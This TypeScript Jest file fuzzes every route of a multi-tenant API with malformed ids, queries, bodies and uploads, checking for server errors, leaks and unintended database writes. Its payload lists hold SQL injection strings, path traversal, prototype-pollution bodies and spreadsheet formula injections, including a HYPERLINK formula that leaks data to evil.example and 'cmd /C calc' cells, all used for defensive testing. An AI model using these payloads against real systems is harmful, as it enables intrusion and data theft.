import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { multipart, startHarness, type Harness } from './harness';
import { createConnection, type Connection } from 'mysql2/promise';

/**
 * Property-based fuzzing of every route of the API (discovered from the OpenAPI document) with malformed ids,
 * query strings, bodies and files, as the administrator of a throw-away tenant onboarded here (no demo data is
 * touched). Whatever is sent, the API must answer: never a 5xx, never a stack trace, every 4xx in the one error
 * shape {statusCode, code, message, messageEn} naming the wrong fields for a 400, no 2xx on another tenant's
 * ids — and requests it refused change nothing: a fingerprint of the whole database (row count + CRC of every
 * row of every table but audit_log, refresh_token and report_value_change) is compared every few requests.
 *
 * About 1,500 requests in all (RUNS below), well under a minute. Run in band (the package's `jest --runInBand`):
 * the whole-database fingerprint assumes no other suite writes at the same time.
 */
/**
 * fuzz, owasp and tenant-data take turns on the run's database even when jest runs files in parallel (the fuzz
 * fingerprints the whole database; tenant-data compares HN row for row): a named lock held for the whole file.
 */
let turn: Connection | undefined;
beforeAll(async () => {
  turn = await createConnection({ uri: process.env.DATABASE_URL ?? 'mysql://root@127.0.0.1:3306/sen' });
  await turn.query("SELECT GET_LOCK(CONCAT('sen-e2e-exclusive-', DATABASE()), 900)");
}, 920_000);
afterAll(async () => {
  await turn?.query("SELECT RELEASE_LOCK(CONCAT('sen-e2e-exclusive-', DATABASE()))");
  await turn?.end();
});

const RUNS = { idsPerRoute: 16, queriesPerRoute: 6, bodiesPerRoute: 16, uploadsPerRoute: 40 };
const BATCH = 75; // requests between two fingerprints
const UPLOAD_MAX = 64 * 1024;
const FINGERPRINT_EXCLUDED = ['audit_log', 'refresh_token', 'report_value_change'];
/** Every fuzz request comes "from" its own address, so its volume never counts against other suites' rate limits. */
const FUZZ_IP = `198.51.100.${Math.floor(Math.random() * 250) + 1}`;

const STACK = /\n\s+at\s|\bat\s+\S+\s+\([^)]*:\d+:\d+\)|node_modules|\.ts:\d+:\d+|\.js:\d+:\d+|QueryFailedError|\bER_[A-Z_]{4,}/;
const SQLISH = [
  "1 OR 1=1",
  "1' OR '1'='1",
  "1; DROP TABLE org_unit; --",
  '1 UNION SELECT password_hash FROM app_user',
  "' || SLEEP(5) || '",
  '1\\',
  "%27%20OR%201%3D1",
  '0x31',
  '`id`',
  '1/**/OR/**/1',
];
const ODD_IDS = [
  '0', '-0', '-1', '1e3', '1.5', '0x10', '１２３', '٣', '9223372036854775807', '18446744073709551615', '18446744073709551616',
  '9'.repeat(40), 'NaN', 'Infinity', 'null', 'undefined', '[]', '{}', '../../etc/passwd', '..%2F..%2Fetc', '%00', ' 1', '1 ', '+1', '😀', 'Hà Nội',
];
const PROTO_BODIES = [
  '{"__proto__":{"polluted":"yes"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '{"name":"x","__proto__":{"isAdmin":true}}',
  '{"values":[{"__proto__":{"polluted":"yes"}}]}',
  '{"a":{"b":{"__proto__":{"polluted":"yes"}}}}',
  '[{"constructor":{"prototype":{"polluted":"yes"}}}]',
];
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '=1+1', '\t=2+2', '\r=3+3'];

interface Route {
  method: string;
  path: string;
  params: string[];
  jsonBody: boolean;
  fields: string[];
  upload: boolean;
}
interface Sent {
  route: Route;
  url: string;
  desc: string;
  status: number;
}

describe('fuzz: malformed ids, queries, bodies and files on every route', () => {
  let h: Harness;
  let token: string;
  let routes: Route[];
  const ownIds = new Set<string>();
  let ownCode = '';
  let tenantCode = '';
  const perRoute = new Map<string, number>();
  const failures: string[] = [];
  let baseline: Record<string, string> = {};
  const batch: { refused: string[]; acceptedWrites: string[] } = { refused: [], acceptedWrites: [] };
  let sentTotal = 0;
  let verifiedBatches = 0;
  let rebaselined = 0;
  const fingerprintSql = new Map<string, string>();

  async function fingerprint(): Promise<Record<string, string>> {
    if (fingerprintSql.size === 0) {
      const cols: { t: string; c: string }[] = await h.db.query(
        `SELECT c.table_name AS t, c.column_name AS c FROM information_schema.columns c
         JOIN information_schema.tables t ON t.table_schema = c.table_schema AND t.table_name = c.table_name AND t.table_type = 'BASE TABLE'
         WHERE c.table_schema = DATABASE() ORDER BY c.table_name, c.ordinal_position`,
      );
      const byTable = new Map<string, string[]>();
      for (const { t, c } of cols) if (!FINGERPRINT_EXCLUDED.includes(t)) byTable.set(t, [...(byTable.get(t) ?? []), c]);
      for (const [t, c] of byTable) {
        fingerprintSql.set(t, `SELECT COUNT(*) AS n, COALESCE(SUM(CRC32(CONCAT_WS(X'1F', ${c.map((x) => `COALESCE(CAST(\`${x}\` AS BINARY), X'00')`).join(', ')}))), 0) AS crc FROM \`${t}\``);
      }
    }
    const out: Record<string, string> = {};
    for (const [t, sql] of fingerprintSql) {
      const [row] = await h.db.query(sql);
      out[t] = `${row.n}:${row.crc}`;
    }
    return out;
  }

  async function closeBatch(): Promise<void> {
    const now = await fingerprint();
    if (batch.acceptedWrites.length === 0) {
      const changed = Object.keys({ ...now, ...baseline }).filter((t) => now[t] !== baseline[t]);
      if (changed.length > 0) {
        failures.push(`refused requests changed the database (tables ${changed.join(', ')}); the batch:\n  ${batch.refused.join('\n  ')}`);
      }
      verifiedBatches++;
    } else {
      rebaselined++;
    }
    baseline = now;
    batch.refused = [];
    batch.acceptedWrites = [];
  }

  /** The answer's problems, if any. */
  function problems(res: { status: number; body: any }, url: string): string[] {
    const out: string[] = [];
    if (res.status >= 500) out.push(`answered ${res.status}`);
    const raw = typeof res.body === 'string' ? res.body : JSON.stringify(res.body);
    if (STACK.test(raw)) out.push('a stack trace or an internal error in the body');
    if (res.status >= 400) {
      const b = res.body;
      if (!b || typeof b !== 'object' || b.statusCode !== res.status || typeof b.code !== 'string' || typeof b.message !== 'string' || typeof b.messageEn !== 'string') {
        out.push('not the error shape {statusCode, code, message, messageEn}');
      } else if (res.status === 400 && !(Array.isArray(b.errors) && b.errors.length > 0 && b.errors.every((e: any) => typeof e.field === 'string' && e.field.length > 0))) {
        out.push('a 400 that names no field');
      }
    }
    // Another tenant's ids: never a 2xx (the fuzz only holds its own tenant's ids as valid ones).
    const ids = url.split('?')[0]!.split('/').filter((s) => /^[0-9]+$/.test(s));
    if (res.status < 300 && ids.some((id) => !ownIds.has(id))) out.push(`a ${res.status} on an id of another tenant`);
    return out;
  }

  async function send(route: Route, url: string, opts: { token?: string | null; payload?: string | Buffer; headers?: Record<string, string> }, desc: string): Promise<Sent> {
    const headers: Record<string, string> = { 'x-forwarded-for': FUZZ_IP, ...(opts.headers ?? {}) };
    const bearer = opts.token === undefined ? token : opts.token;
    if (bearer) headers.authorization = `Bearer ${bearer}`;
    const res = await h.request(route.method, url, { payload: opts.payload, headers });
    sentTotal++;
    perRoute.set(`${route.method} ${route.path}`, (perRoute.get(`${route.method} ${route.path}`) ?? 0) + 1);
    const line = `${route.method} ${url.length > 160 ? url.slice(0, 160) + '…' : url} ${desc} → ${res.status}`;
    const found = problems(res, url);
    if (found.length > 0) {
      failures.push(`${line}: ${found.join('; ')}: ${(typeof res.body === 'string' ? res.body : JSON.stringify(res.body)).slice(0, 300)}`);
    }
    // An import that reports row errors (`created: 0`) answers 2xx but must have written nothing: it counts as refused.
    const wroteNothing = res.body && typeof res.body === 'object' && res.body.created === 0;
    if (res.status >= 200 && res.status < 300 && route.method !== 'GET' && !wroteNothing) batch.acceptedWrites.push(line);
    else batch.refused.push(line);
    if (sentTotal % BATCH === 0) await closeBatch();
    return { route, url, desc, status: res.status };
  }

  const fill = (route: Route, ids: string[]) => {
    let i = 0;
    return route.path.replace(/\{[^}]+\}/g, () => encodeURIComponent(ids[i++] ?? ids[0] ?? '1'));
  };
  const ownId = () => [...ownIds][0]!;

  beforeAll(async () => {
    h = await startHarness({ RATE_LIMIT_PER_MINUTE: '1000000', LOGIN_RATE_LIMIT_PER_MINUTE: '1000000', UPLOAD_MAX_BYTES: String(UPLOAD_MAX) });
    const tw = (await h.login('TW', 'admin')).accessToken;
    tenantCode = `FZ${Date.now().toString(36).toUpperCase().slice(-6)}`;
    ownCode = `${tenantCode}-C1`;
    const onboard = await h.request('POST', '/api/v1/tenants', {
      token: tw,
      body: {
        code: tenantCode,
        name: 'Hội LHPN tỉnh Thử nghiệm (fuzz)',
        levels: [{ code: 'province', name: 'Tỉnh' }, { code: 'grassroots', name: 'Xã, phường' }, { code: 'branch', name: 'Chi hội' }],
        rootUnit: { name: 'Hội LHPN tỉnh Thử nghiệm', code: tenantCode },
        admin: { username: 'admin', displayName: 'Quản trị thử nghiệm', password: 'fuzz-admin-2025' },
        unitsCsv: `code,name,level,kind,parent code\n${ownCode},Hội LHPN xã Một,grassroots,union,\n${tenantCode}-B1,Chi hội Một,branch,union,${ownCode}\n`,
      },
    });
    if (onboard.status !== 201) throw new Error(`onboarding the fuzz tenant failed: ${onboard.status} ${JSON.stringify(onboard.body)}`);
    const session = await h.login(tenantCode, 'admin', 'fuzz-admin-2025');
    token = session.accessToken;
    ownIds.add(session.user.unitId);
    ownIds.add(session.user.id);
    const units = await h.request('GET', `/api/v1/org-units?parentId=${session.user.unitId}`, { token });
    for (const u of units.body.items) ownIds.add(u.id);

    const doc = (await h.request('GET', '/api/docs-json')).body as { paths: Record<string, Record<string, any>> };
    routes = Object.entries(doc.paths).flatMap(([path, ops]) =>
      Object.entries(ops).map(([m, op]) => {
        const content = op.requestBody?.content ?? {};
        const schema = content['application/json']?.schema;
        return {
          method: m.toUpperCase(),
          path,
          params: [...path.matchAll(/\{([^}]+)\}/g)].map((x) => x[1]!),
          jsonBody: !!content['application/json'],
          fields: Object.keys(schema?.properties ?? {}),
          upload: !!content['multipart/form-data'] || /\/import$/.test(path),
        };
      }),
    );
    // Reads that materialise something once (the national report forms of a new tenant) do it before the baseline.
    for (const r of routes.filter((x) => x.method === 'GET' && x.params.length === 0)) await h.request('GET', r.path, { token, headers: { 'x-forwarded-for': FUZZ_IP } });
    baseline = await fingerprint();
  });

  afterAll(async () => {
    await h?.close();
  });

  it('discovers every route from the OpenAPI document, the uploads among them', () => {
    expect(routes.length).toBeGreaterThan(40);
    expect(routes.filter((r) => r.upload).map((r) => r.path)).toEqual(expect.arrayContaining(['/api/v1/org-units/import']));
  });

  it('ids: random strings, huge, negative, unicode and SQL-ish ids in every path never break the API', async () => {
    const idArb = fc.oneof(
      { weight: 2, arbitrary: fc.constantFrom(...ownIds, '1', '2', '3', '4') },
      { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
      { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 16 }) },
      { weight: 1, arbitrary: fc.bigInt({ min: 2n ** 63n, max: 2n ** 90n }).map(String) },
      { weight: 1, arbitrary: fc.integer({ min: -2_000_000_000, max: -1 }).map(String) },
      { weight: 2, arbitrary: fc.constantFrom(...ODD_IDS, ...SQLISH) },
    );
    for (const route of routes.filter((r) => r.params.length > 0)) {
      await fc.assert(
        fc.asyncProperty(fc.array(idArb, { minLength: route.params.length, maxLength: route.params.length }), async (ids) => {
          await send(route, fill(route, ids), { payload: route.jsonBody ? '{}' : undefined, headers: route.jsonBody ? { 'content-type': 'application/json' } : {} }, `ids=${JSON.stringify(ids).slice(0, 80)}`);
        }),
        { numRuns: RUNS.idsPerRoute, endOnFailure: true },
      );
    }
    expect(failures).toEqual([]);
  });

  it('query strings: unknown keys, wrong types, repeated keys, huge limits and broken percent-encoding', async () => {
    const keys = ['limit', 'offset', 'q', 'parentId', 'level', 'period', 'periods', 'unitId', 'status', 'formCode', 'indicator', 'entity', 'tenant', 'tenants', 'tenantId', 'year', 'gzip', 'format', '__proto__', 'constructor'];
    const valueArb = fc.oneof(
      fc.string({ maxLength: 30 }),
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.constantFrom('100000', '-1', '0', '1e309', '2024S1', '2024S3', '99999', 'true', '', ...ODD_IDS, ...SQLISH),
      fc.bigInt({ min: 2n ** 63n, max: 2n ** 90n }).map(String),
      fc.constant('x'.repeat(5000)),
    );
    const pairArb = fc.tuple(fc.oneof(fc.constantFrom(...keys), fc.string({ minLength: 1, maxLength: 10 })), valueArb);
    const queryArb = fc.tuple(fc.array(pairArb, { minLength: 1, maxLength: 6 }), fc.constantFrom('', '', '', '&%', '&a=%zz', '&b=%E0%A4%A', '&c=%00', '&limit=1&limit=2'));
    for (const route of routes) {
      await fc.assert(
        fc.asyncProperty(queryArb, async ([pairs, raw]) => {
          const qs = pairs.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join('&') + raw;
          await send(route, `${fill(route, [ownId()])}?${qs}`, { payload: route.jsonBody ? '{}' : undefined, headers: route.jsonBody ? { 'content-type': 'application/json' } : {} }, 'query');
        }),
        { numRuns: RUNS.queriesPerRoute, endOnFailure: true },
      );
    }
    expect(failures).toEqual([]);
  });

  it('bodies: wrong types, deep nesting, huge strings, prototype-pollution keys, broken JSON and wrong content types', async () => {
    const weird = fc.oneof(
      fc.jsonValue({ maxDepth: 3 }),
      fc.constantFrom(null, -1, 1e308, -1e308, 0.1, 2 ** 53 + 1, '', ' ', '\u0000', '‮', 'x'.repeat(70_000), ...ODD_IDS, ...SQLISH, ...FORMULAS),
      fc.string({ unit: 'grapheme', maxLength: 30 }),
      fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 5 }),
    );
    for (const route of routes.filter((r) => r.jsonBody)) {
      const fieldArb = fc.constantFrom(...route.fields, '__proto__', 'constructor', 'prototype', 'tenantId', 'tenant', 'id', 'passwordHash', 'roles', 'status', 'approvedBy', 'extra');
      const bodyArb = fc.oneof(
        { weight: 4, arbitrary: fc.dictionary(fieldArb, weird, { maxKeys: 6 }).map((o) => JSON.stringify(o)) },
        { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v)) },
        { weight: 1, arbitrary: fc.integer({ min: 50, max: 20_000 }).map((d) => '{"a":'.repeat(d) + '1' + '}'.repeat(d)) },
        { weight: 1, arbitrary: fc.integer({ min: 50, max: 50_000 }).map((d) => '['.repeat(d) + ']'.repeat(d)) },
        { weight: 1, arbitrary: fc.constantFrom(...PROTO_BODIES) },
        { weight: 1, arbitrary: fc.string({ maxLength: 40 }).map((s) => `{${s}`) },
        { weight: 1, arbitrary: fc.constantFrom('', 'null', '"text"', 'true', '1e999', '{"a":1,}', "{'a':1}", '\uFEFF{}', '{"a":"\\ud800"}') },
        { weight: 1, arbitrary: fc.constantFrom(300_000, 2_500_000).map((n) => JSON.stringify({ [route.fields[0] ?? 'name']: 'x'.repeat(n) })) },
      );
      const typeArb = fc.constantFrom('application/json', 'application/json', 'application/json', 'application/json', 'text/plain', 'application/x-www-form-urlencoded', 'application/xml', 'multipart/form-data; boundary=x', 'application/json; charset=latin1', 'application/jsonp');
      const idArb = fc.constantFrom(...ownIds, '1', '2', 'abc', '-1');
      await fc.assert(
        fc.asyncProperty(bodyArb, typeArb, idArb, async (payload, type, id) => {
          await send(route, fill(route, [id]), { payload, headers: { 'content-type': type } }, `body(${type}, ${payload.length} B): ${payload.slice(0, 80)}`);
        }),
        { numRuns: RUNS.bodiesPerRoute, endOnFailure: true },
      );
    }
    // Nothing leaked into this process's prototypes (the api runs in it: inject).
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(failures).toEqual([]);
  });

  it('files: truncated, over the size cap, wrong type, broken UTF-8, formula-injection cells, broken multipart', async () => {
    const xlsx = async (rows: unknown[][], formulaCell = false): Promise<Buffer> => {
      const wb = new ExcelJS.Workbook();
      const ws = wb.addWorksheet('Đơn vị');
      ws.addRows(rows);
      if (formulaCell) ws.getCell('B3').value = { formula: 'HYPERLINK("http://evil.example","Bấm")', result: 'Bấm' } as ExcelJS.CellFormulaValue;
      return Buffer.from(await wb.xlsx.writeBuffer());
    };
    const header = ['code', 'name', 'level', 'kind', 'parent code'];
    const good = await xlsx([header, [`${tenantCode}-X1`, 'Chi hội X', 'branch', 'union', ownCode]]);
    const fileArb = fc.oneof(
      // Truncated XLSX: a valid file cut anywhere.
      fc.integer({ min: 0, max: good.length - 1 }).map((n) => ({ name: 'units.xlsx', type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', content: good.subarray(0, n), what: `xlsx cut at ${n}` })),
      // Over UPLOAD_MAX_BYTES.
      fc.constantFrom(UPLOAD_MAX + 1, UPLOAD_MAX * 3).map((n) => ({ name: 'units.csv', type: 'text/csv', content: Buffer.alloc(n, 'a'), what: `${n} bytes` })),
      // Wrong type.
      fc.constantFrom('units.exe', 'units.pdf', 'units', 'units.csv.exe', 'units.docx', '../../units.csv', 'units.xlsx\u0000.exe').map((name) => ({ name, type: 'application/octet-stream', content: Buffer.from('MZ\u0090\u0000binary'), what: `name ${name}` })),
      // Broken UTF-8 in a CSV.
      fc.uint8Array({ minLength: 1, maxLength: 200 }).map((bytes) => ({ name: 'units.csv', type: 'text/csv', content: Buffer.concat([Buffer.from('code,name,level,kind,parent code\n'), Buffer.from([0xc3, 0x28, 0xff, 0xfe]), Buffer.from(bytes)]), what: 'broken utf-8' })),
      // Random bytes under a spreadsheet name.
      fc.uint8Array({ minLength: 0, maxLength: 2000 }).map((bytes) => ({ name: 'units.xlsx', type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', content: Buffer.from(bytes), what: 'random bytes' })),
      // Formula-injection cells (strings) and a real formula cell: stored as text, never evaluated.
      fc.tuple(fc.constantFrom(...FORMULAS), fc.constantFrom('name', 'code', 'level', 'parent')).chain(([f, where]) =>
        fc.constant(null).map(() => ({ name: 'units.xlsx', type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', content: null as Buffer | null, what: `formula ${where}: ${f}`, rows: [header, [where === 'code' ? f : `${tenantCode}-F${Math.random().toString(36).slice(2, 8)}`, where === 'name' ? f : 'Chi hội F', where === 'level' ? f : 'branch', 'union', where === 'parent' ? f : ownCode], ['', '', '', '', '']], formulaCell: where === 'name' })),
      ),
      // CSV with formula cells and CSV-breaking quotes.
      fc.constantFrom(...FORMULAS).map((f) => ({ name: 'units.csv', type: 'text/csv', content: Buffer.from(`code,name,level,kind,parent code\n"${f.replace(/"/g, '""')}","${f.replace(/"/g, '""')}",branch,union,${ownCode}\n"unterminated,x\n`), what: `csv formula ${f}` })),
    );
    const shapeArb = fc.constantFrom('ok', 'ok', 'ok', 'ok', 'wrong-field', 'two-files', 'no-boundary', 'garbage', 'json');
    for (const route of routes.filter((r) => r.upload)) {
      const query = route.path.includes('bulk-values') ? '?period=2024S1&formCode=QG-6T' : '';
      await fc.assert(
        fc.asyncProperty(fileArb, shapeArb, async (file, shape) => {
          const content = file.content ?? (await xlsx((file as { rows: unknown[][] }).rows, (file as { formulaCell?: boolean }).formulaCell));
          let payload: Buffer;
          let headers: Record<string, string>;
          if (shape === 'garbage') {
            payload = Buffer.concat([Buffer.from('--x\r\nContent-Disposition: form-data; name="file"\r\n\r\n'), content.subarray(0, 100)]);
            headers = { 'content-type': 'multipart/form-data; boundary=x' };
          } else if (shape === 'no-boundary') {
            payload = content;
            headers = { 'content-type': 'multipart/form-data' };
          } else if (shape === 'json') {
            payload = Buffer.from(JSON.stringify({ file: content.toString('base64') }));
            headers = { 'content-type': 'application/json' };
          } else {
            const m = multipart(file.name, content, file.type);
            payload = m.payload;
            headers = m.headers;
            if (shape === 'wrong-field') payload = Buffer.from(payload.toString('latin1').replace('name="file"', 'name="upload"'), 'latin1');
            if (shape === 'two-files') {
              const boundary = headers['content-type']!.split('boundary=')[1]!;
              const second = Buffer.from(`\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="b.csv"\r\nContent-Type: text/csv\r\n\r\ncode\r\n--${boundary}--\r\n`);
              payload = Buffer.concat([payload.subarray(0, payload.length - `\r\n--${boundary}--\r\n`.length), second]);
            }
          }
          const res = await send(route, fill(route, [ownId()]) + query, { payload, headers }, `file ${shape} ${file.what}`);
          // Over the cap is 413 whenever the route reads the file (its name passes the type check, the caller may upload).
          if (shape === 'ok' && content.length > UPLOAD_MAX && ![400, 403].includes(res.status) && res.status !== 413) {
            failures.push(`${route.path} ${file.what}: answered ${res.status}, not 413`);
          }
        }),
        { numRuns: RUNS.uploadsPerRoute, endOnFailure: true },
      );
    }
    expect(failures).toEqual([]);
  });

  it('uploads are capped: 413 over UPLOAD_MAX_BYTES, 400 naming the file for a wrong type, JSON bodies over 2 MB → 413', async () => {
    const unitsRoute = routes.find((r) => r.path === '/api/v1/org-units/import')!;
    const big = multipart('units.csv', Buffer.alloc(UPLOAD_MAX + 10, 'a'));
    const tooBig = await send(unitsRoute, '/api/v1/org-units/import', { payload: big.payload, headers: big.headers }, 'over the cap');
    expect(tooBig.status).toBe(413);
    const exe = multipart('units.exe', Buffer.from('MZ'), 'application/octet-stream');
    const wrongType = await h.request('POST', '/api/v1/org-units/import', { token, payload: exe.payload, headers: { ...exe.headers, 'x-forwarded-for': FUZZ_IP } });
    expect(wrongType.status).toBe(400);
    expect(wrongType.body.errors[0].field).toBe('file');
    const huge = await h.request('POST', '/api/v1/org-units', { token, payload: JSON.stringify({ name: 'x'.repeat(2.5 * 1024 * 1024) }), headers: { 'content-type': 'application/json', 'x-forwarded-for': FUZZ_IP } });
    expect(huge.status).toBe(413);
    expect(huge.body).toMatchObject({ statusCode: 413, code: 'PAYLOAD_TOO_LARGE' });
  });

  it('formula-injection cells are stored as text and echoed escaped in the import error table', async () => {
    const csv = `code,name,level,kind,parent code\n"=HYPERLINK(""http://evil.example"")",Chi hội =1+1,nope,union,${ownCode}\n`;
    const m = multipart('units.csv', csv);
    const res = await h.request('POST', '/api/v1/org-units/import', { token, payload: m.payload, headers: { ...m.headers, 'x-forwarded-for': FUZZ_IP } });
    expect(res.status).toBe(201);
    expect(res.body.created).toBe(0);
    const reasons = res.body.errors.map((e: { reason: string }) => e.reason).join('\n');
    expect(reasons).toContain('cấp "nope"');
    const named = `${tenantCode}-EQ`;
    const ok = multipart('units.csv', `code,name,level,kind,parent code\n${named},"=HYPERLINK(""http://evil.example"",""x"")",branch,union,${ownCode}\n`);
    const created = await h.request('POST', '/api/v1/org-units/import', { token, payload: ok.payload, headers: { ...ok.headers, 'x-forwarded-for': FUZZ_IP } });
    expect(created.body).toEqual({ created: 1, errors: [] });
    const dup = multipart('units.csv', `code,name,level,kind,parent code\n${named},Trùng,branch,union,${ownCode}\n`);
    const again = await h.request('POST', '/api/v1/org-units/import', { token, payload: dup.payload, headers: { ...dup.headers, 'x-forwarded-for': FUZZ_IP } });
    expect(again.body.errors[0].reason).toContain(`mã "${named}"`);
    const eq = multipart('units.csv', `code,name,level,kind,parent code\n=1+1,Công thức,branch,union,@SUM(A1)\n`);
    const echoed = await h.request('POST', '/api/v1/org-units/import', { token, payload: eq.payload, headers: { ...eq.headers, 'x-forwarded-for': FUZZ_IP } });
    expect(echoed.body.created).toBe(0);
    expect(echoed.body.errors.map((e: { reason: string }) => e.reason).join('\n')).toContain(`mã "'@SUM(A1)"`);
    // The unit's name is kept exactly as typed (escaping belongs to the spreadsheet exports: escapeFormula).
    const [stored] = await h.db.query('SELECT name FROM org_unit WHERE code = ?', [named]);
    expect(stored.name).toBe('=HYPERLINK("http://evil.example","x")');
    baseline = await fingerprint(); // the accepted import above changed the database on purpose
  });

  it('covered every route, and refused requests changed nothing in the database', async () => {
    await closeBatch();
    const missing = routes.map((r) => `${r.method} ${r.path}`).filter((r) => !perRoute.has(r));
    expect(missing).toEqual([]);
    expect(sentTotal).toBeGreaterThan(1000);
    // Nearly every batch held refused requests only, so nearly every batch was checked.
    expect(verifiedBatches).toBeGreaterThan(rebaselined * 3);
    expect(failures).toEqual([]);
    console.info(`fuzz: ${sentTotal} requests on ${perRoute.size} routes; ${verifiedBatches} batches checked against the fingerprint, ${rebaselined} held an accepted write`);
  });
});
